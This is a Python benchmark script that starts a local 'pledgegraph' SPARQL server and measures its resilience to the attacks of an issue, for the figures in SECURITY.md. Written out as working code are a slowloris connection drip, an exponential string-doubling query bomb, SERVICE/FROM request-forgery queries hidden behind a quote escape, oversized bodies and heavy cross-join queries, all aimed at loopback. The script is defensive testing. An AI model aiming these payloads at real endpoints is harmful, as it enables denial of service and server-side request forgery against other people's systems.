"""The attacks of issue 18 against a running `pledgegraph serve`, with the figures for SECURITY.md.

    .venv/bin/python bench/endpoint_attacks.py [--dist dist] [--src DIR] [--seconds 15]

Starts `pledgegraph serve` (from `--src`, a checkout's src/ folder, to measure another version:
`git archive main src | tar -x -C /tmp/before` then `--src /tmp/before/src`) on a free loopback
port with 2 workers and a 10 s time limit, then runs each attack for `--seconds` while a cheap
query is asked back to back from another loopback address, and prints one row per attack:
the attack's statuses, the cheap query's statuses and p50, and the server process's peak RSS.
Loopback only. Not a test: tests/test_endpoint_attack.py asserts the bounds; this measures.
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import select
import socket
import statistics
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CHEAP = "SELECT ?p WHERE { ?p a <https://w3id.org/pledgegraph/ontology#Pledge> } LIMIT 5"
HEAVY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
DOUBLING = (
    'SELECT ?v27 WHERE { BIND("&" AS ?v0) '
    + " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(27))
    + " }"
)


def ask(port, query, source="127.0.0.1", accept="application/sparql-results+json", body=None, timeout=60):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout, source_address=(source, 0))
    try:
        if body is None:
            conn.request("GET", "/sparql?" + urllib.parse.urlencode({"query": query}), headers={"Accept": accept})
        else:
            conn.request(
                "POST", "/sparql", body=body, headers={"Content-Type": "application/sparql-query", "Accept": accept}
            )
        response = conn.getresponse()
        return response.status, len(response.read())
    except OSError as e:
        return type(e).__name__, 0
    finally:
        conn.close()


def rss_mib(pid: int) -> float:
    try:
        return int(next(line for line in open(f"/proc/{pid}/status") if line.startswith("VmRSS:")).split()[1]) / 1024
    except (OSError, StopIteration):
        return 0.0


def measure(port, pid, seconds, attack) -> dict:
    """Run `attack(stop_time, statuses)` in threads while the cheap query is timed; the figures."""
    stop = time.time() + seconds
    statuses, cheap, latencies, peak = [], [], [], [rss_mib(pid)]
    threads = attack(stop, statuses)
    time.sleep(min(1.0, seconds / 4))
    while time.time() < stop:
        start = time.perf_counter()
        cheap.append(ask(port, CHEAP, source="127.0.0.2", timeout=seconds + 30)[0])
        latencies.append(time.perf_counter() - start)
        peak.append(rss_mib(pid))
    for t in threads:
        t.join()
    peak.append(rss_mib(pid))
    return {
        "attack_status": sorted({str(s) for s in statuses}),
        "cheap_status": sorted({str(s) for s in cheap}),
        "cheap_p50_ms": round(statistics.median(latencies) * 1000, 1) if latencies else None,
        "cheap_requests": len(cheap),
        "peak_rss_mib": round(max(peak)),
    }


def clients(n, job, prefix):
    def attack(stop, statuses):
        def loop(source):
            while time.time() < stop:
                statuses.append(job(source))

        threads = [threading.Thread(target=loop, args=(f"{prefix}.{i + 1}",), daemon=True) for i in range(n)]
        for t in threads:
            t.start()
        return threads

    return attack


def slowloris(port):
    def attack(stop, statuses):
        def drip(i):
            try:
                s = socket.create_connection(
                    ("127.0.0.1", port), timeout=10, source_address=(f"127.0.3.{i % 250 + 1}", 0)
                )
            except OSError as e:
                statuses.append(type(e).__name__)
                return
            opened = time.time()
            try:
                for n, byte in enumerate(b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: x\r\n"):
                    s.sendall(bytes([byte]))
                    while time.time() < min(stop, opened + 5 * (n + 1)):  # the next byte in 5 s
                        if select.select([s], [], [], 0.2)[0]:  # the server answered (503) or closed it
                            s.recv(4096)
                            raise ConnectionResetError
                    if time.time() >= stop:
                        break
                statuses.append("held to the end")
            except OSError:
                statuses.append(f"cut off after {round(time.time() - opened)} s")
            finally:
                s.close()

        threads = [threading.Thread(target=drip, args=(i,), daemon=True) for i in range(70)]
        for t in threads:
            t.start()
        return threads

    return attack


def listener_attack(port):
    """SERVICE and FROM behind a `\\u0022` escape, aimed at a loopback listener that counts connections."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    target = sock.getsockname()[1]
    hits = []

    def accept():
        sock.settimeout(0.2)
        while not sock._closed:
            try:
                hits.append(sock.accept()[0].close())
            except OSError:
                pass

    queries = [
        f'SELECT * WHERE {{ BIND("\\u0022" AS ?a) SERVICE <http://127.0.0.1:{target}/> {{?s ?p ?o}} '
        f'BIND("\\u0022" AS ?b) }}',
        f'SELECT ("\\u0022" AS ?a) FROM <http://127.0.0.1:{target}/> WHERE {{ BIND("\\u0022" AS ?b) }}',
    ]

    def attack(stop, statuses):
        threading.Thread(target=accept, daemon=True).start()
        for q in queries:
            statuses.append(ask(port, "", body=q.encode())[0])
        return []

    return attack, hits, sock


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--dist", type=Path, default=ROOT / "dist")
    parser.add_argument("--src", type=Path, default=ROOT / "src")
    parser.add_argument("--seconds", type=float, default=15.0)
    args = parser.parse_args()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PYTHONPATH": str(args.src)}
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "pledgegraph",
            "serve",
            "--port",
            str(port),
            "--dist",
            str(args.dist),
            "--workers",
            "2",
            "--timeout",
            "10",
        ],
        env=env,
        stderr=subprocess.DEVNULL,
        cwd=ROOT,
    )
    try:
        for _ in range(120):
            if ask(port, "ASK {}")[0] == 200:
                break
            time.sleep(0.5)
        secs = args.seconds
        print("idle", json.dumps(measure(port, server.pid, 3, lambda stop, st: [])), flush=True)
        print("slowloris (70 x 1 byte / 5 s)", json.dumps(measure(port, server.pid, secs, slowloris(port))), flush=True)
        print(
            "answer-size bomb (text/html)",
            json.dumps(
                measure(
                    port,
                    server.pid,
                    secs,
                    clients(1, lambda src: ask(port, DOUBLING, source=src, accept="text/html")[0], "127.0.2"),
                )
            ),
            flush=True,
        )
        attack, hits, sock = listener_attack(port)
        figures = measure(port, server.pid, 3, attack)
        time.sleep(0.5)
        sock.close()
        print("\\u0022 SERVICE / FROM", json.dumps({**figures, "listener_connections": len(hits)}), flush=True)
        print(
            "4 x 32 KB 'a.' bodies",
            json.dumps(
                measure(
                    port,
                    server.pid,
                    secs,
                    clients(4, lambda src: ask(port, "", source=src, body=b"a." * 16384)[0], "127.0.5"),
                )
            ),
            flush=True,
        )
        print(
            "2 clients of <urn:fn>(1)",
            json.dumps(
                measure(
                    port,
                    server.pid,
                    secs,
                    clients(
                        2, lambda src: ask(port, "", source=src, body=b"SELECT (<urn:fn>(1) AS ?x) {}")[0], "127.0.6"
                    ),
                )
            ),
            flush=True,
        )
        print(
            "6 heavy clients",
            json.dumps(
                measure(port, server.pid, secs, clients(6, lambda src: ask(port, HEAVY, source=src)[0], "127.0.7"))
            ),
            flush=True,
        )
    finally:
        server.terminate()
        server.wait(30)


if __name__ == "__main__":
    main()
